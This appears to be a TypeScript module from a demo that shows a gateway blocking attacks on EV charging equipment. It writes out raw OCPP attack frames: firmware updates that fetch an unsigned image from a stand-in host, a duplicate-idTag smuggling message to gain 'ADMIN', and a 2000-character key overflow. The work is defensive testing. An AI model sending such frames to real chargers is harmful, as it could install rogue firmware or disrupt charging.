import { errors } from '../../errors/catalogue.ts';
import type { GatewayEvent } from '../../events/catalogue.ts';
import type { Stage } from './stage.ts';
import type { AttemptResult, DemoAttempt } from './state.ts';
import { stopEverything } from './stop-everything.ts';

interface Attempt {
  readonly title: string;
  /** Plays it; `tell` shows how far it is. */
  play(stage: Stage, tell: (because: string) => void): Promise<AttemptResult>;
}

/** An attempt that is one message, which must not arrive. */
interface Message {
  readonly title: string;
  /** What must never arrive. Not the id alone: the CallError that refuses it carries that. */
  readonly marker: string;
  attack(stage: Stage): void | Promise<void>;
}

/** Time for a message to cross loopback, in milliseconds. Far more than it needs. */
const deliveryMs = 300;

const longKey = 'LONG-KEY-'.padEnd(2000, 'A');

const messages: readonly Message[] = [
  {
    title: 'A hijacked charger sends the CSMS a command: UpdateFirmware',
    marker: '"scene-direction","UpdateFirmware"',
    attack: ({ rogueCharger }) =>
      rogueCharger.sendRaw(
        '[2,"scene-direction","UpdateFirmware",' +
          '{"location":"http://203.0.113.66/fw.bin","retrieveDate":"2026-01-01T00:00:00Z"}]',
      ),
  },
  {
    title: 'It hides a second idTag in one message, for the parser that reads the last',
    marker: '"scene-smuggling","Authorize"',
    attack: ({ rogueCharger }) =>
      rogueCharger.sendRaw('[2,"scene-smuggling","Authorize",{"idTag":"GUEST","idTag":"ADMIN"}]'),
  },
  {
    title: 'It connects again, under the name of a charger that is at work',
    marker: 'scene-identity',
    attack: (stage) => stage.impersonate(),
  },
  {
    title: 'A stolen CSMS account installs firmware that nobody has signed',
    marker: '"scene-firmware","UpdateFirmware"',
    attack: ({ csms, victim }) =>
      csms.sendRaw(
        victim.identity,
        '[2,"scene-firmware","UpdateFirmware",' +
          '{"location":"http://203.0.113.66/fw.bin","retrieveDate":"2026-01-01T00:00:00Z"}]',
      ),
  },
  {
    title: 'It overflows a buffer in the charger (CVE-2026-13214: a key of 2000 characters)',
    marker: longKey,
    attack: ({ csms, victim }) =>
      csms.sendRaw(
        victim.identity,
        `[2,"scene-overflow","GetConfiguration",{"key":["${longKey}"]}]`,
      ),
  },
];

/** What is tried, in this order. */
const attempts: readonly Attempt[] = [
  ...messages.map((message) => ({
    title: message.title,
    play: (stage: Stage) => playMessage(stage, message),
  })),
  {
    title: 'A stolen CSMS account stops every car at once',
    play: stopEverything,
  },
];

const verdicts: Readonly<Record<AttemptResult['outcome'], string>> = {
  stopped: 'was stopped',
  paced: 'was paced',
  'got-through': 'GOT THROUGH',
};

/**
 * Plays the scene: six attempts, each checked on both sides, not only by what the gateway says.
 *
 * @returns whether all of them were stopped or paced.
 */
export async function playScene(stage: Stage): Promise<boolean> {
  const { state } = stage;
  const shown: DemoAttempt[] = attempts.map(({ title }) => ({
    title,
    outcome: 'waiting',
    because: '',
  }));
  const show = (index: number, change: Partial<DemoAttempt>): void => {
    const attempt = shown[index];
    if (attempt !== undefined) shown[index] = { ...attempt, ...change };
    state.attempts = [...shown];
  };
  for (const [index, attempt] of attempts.entries()) {
    if (index > 0) await stage.pause(stage.paceSeconds * 1000);
    show(index, { outcome: 'running' });
    notice(stage, `attack ${index + 1}: ${attempt.title}`);
    const result = await attempt.play(stage, (because) => {
      show(index, { because });
      notice(stage, because);
    });
    show(index, result);
    notice(stage, `attack ${index + 1} ${verdicts[result.outcome]}: ${result.because}`);
    if (result.chart !== undefined) notice(stage, result.chart);
  }
  return shown.every(({ outcome }) => outcome === 'stopped' || outcome === 'paced');
}

async function playMessage(stage: Stage, message: Message): Promise<AttemptResult> {
  const seen = stage.nextEvent(isJudgement);
  await message.attack(stage);
  const event = await seen;
  // Whatever got through needs a moment to arrive.
  await stage.pause(deliveryMs);
  const isStopped = event !== undefined && !stage.wasDelivered(message.marker);
  const because = event === undefined ? 'the gateway noticed nothing' : reasonOf(event);
  return { outcome: isStopped ? 'stopped' : 'got-through', because };
}

function notice({ clock, state }: Stage, text: string): void {
  state.add({ atMs: clock.nowMs(), kind: 'notice', text });
}

function isJudgement(event: GatewayEvent): boolean {
  const { name } = event;
  return name === 'FrameRefused' || name === 'FrameFlagged' || name === 'UpgradeRefused';
}

function reasonOf(event: GatewayEvent): string {
  if (!('code' in event) || event.code === undefined) return event.name;
  return `${event.code}: ${errors[event.code].meaning}`;
}
